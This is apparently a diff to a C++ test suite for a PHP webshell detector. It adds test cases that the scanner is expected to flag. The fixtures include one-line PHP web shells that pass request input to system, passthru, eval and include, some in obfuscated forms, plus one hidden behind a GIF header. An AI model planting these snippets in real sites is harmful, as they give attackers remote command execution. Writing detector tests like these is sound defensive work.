@@ -60,6 +60,8 @@ TEST(PhpLexer, ReadsWhatPhpReads) {
   EXPECT_FALSE(php_lex(table + "); ('sys'.'tem')('id');", 100).rest_inert);
   EXPECT_FALSE(php_lex(table + "\"{${`id`}}\");", 100).rest_inert);
   EXPECT_TRUE(php_lex(table + "); $cw = array(1 => 2);", 100).rest_inert);  // a font's tables
+  EXPECT_FALSE(php_lex(table + "); $c = $_GET['c'];", 100).rest_inert);     // input handed on
+  EXPECT_FALSE(php_lex(table + ", 1..system('id'));", 100).rest_inert);     // 1. . system(…)
   EXPECT_FALSE(php_lex(table + "); $f = 'system'; $f('id');", 100).rest_inert);
   EXPECT_FALSE(php_lex("<?php while (1) {" + table.substr(6) + "); $f = 'x'; }", 100).rest_inert);
   EXPECT_FALSE(php_lex("GIF89a no code here", 100).has_php);
@@ -190,6 +192,22 @@ TEST(ShellJudge, FindsEachWayAShellRunsWhatTheRequestSays) {
        " . $_SERVER['SERVER_ADDR']);",
        "reporting in"},
       {"<?php $c = fsockopen('127.0.0.1', $p); fputs($c, 'SITE EXEC ' . $cmd);", "SITE EXEC"},
+      // what the attack review found getting past: each is a shell PHP runs
+      {"<?php $a = 1..system($_GET['c']);", "command execution with request input"},
+      {"<?php function g() { return $_GET; } function f() { $q = g(); system($q['c']); } f();",
+       "command execution with request input"},
+      {"<?php passthru('sh ' . escapeshellarg($_FILES['f']['tmp_name']));",
+       "command execution with request input"},
+      {"<?php $p = $_FILES['f']['tmp_name']; include $p;", "include of a file named by"},
+      {"<?php $c = file_get_contents($_FILES['f']['tmp_name']); eval($c);",
+       "PHP code from request input"},
+      {"<?php $o = new ArrayObject($_GET); system($o['c']);", "command execution with request"},
+      {"<?php function f() { system($GLOBALS['c']); } $c = $_GET['c']; f();",
+       "command execution with request input"},
+      {"<?php $a = $b = $c = ''; for ($i = 0; $i < 3; $i++) { $c = $b; $b = $a; "
+       "$a = $_GET['c']; } system($c);",
+       "command execution with request input"},
+      {"<?php include __DIR__ . '/CHANGELOG.md';", "named like an image or text"},
   };
   for (const auto& [code, why] : shells) {
     ShellVerdict v = judge_php(code, "x.php");
@@ -273,11 +291,21 @@ TEST(ShellJudge, LeavesAlonePhpThatOnlyLooksDangerous) {
   for (int i = 0; i < 10; ++i)
     doc +=
         "You can include additional themes by using Docker volumes and `docker run` with "
-        "the path to eval them from $_GET before the system starts.\n";
+        "the path to eval them from the query before the system starts.\n";
   EXPECT_FALSE(judge_php(doc, "setup.rst.txt").suspect());
+  // … but a segment with what a shell needs is never prose, whatever reads like it
+  std::string consts = "<?php system($_GET['c']); $z = A";
+  for (int i = 0; i < 30; ++i) consts += " or A";
+  EXPECT_TRUE(judge_php(consts + ";", "x.phar").suspect());
+  EXPECT_TRUE(judge_php(consts + ";", "notes.txt").suspect());
   // Bytes of a picture that happen to read "<?=", far into it.
   std::string png = "\x89PNG\r\n" + std::string(2000, 'A') + "<?= \xc3\x28`x` \xff\xfe";
   EXPECT_FALSE(judge_php(png, "8.png").suspect());
+  // … but traits that add up to a shell's are one, wherever they sit in a picture
+  EXPECT_TRUE(judge_php("GIF89a" + std::string(600, 'A') +
+                            "<?php $o = new ArrayObject($_POST); @eval($o['c']); echo `$o[d]`;",
+                        "a.gif")
+                  .suspect());
 }
 
 // The DEV corpus (../shared/corpus/webshell): real shells and backdoors.
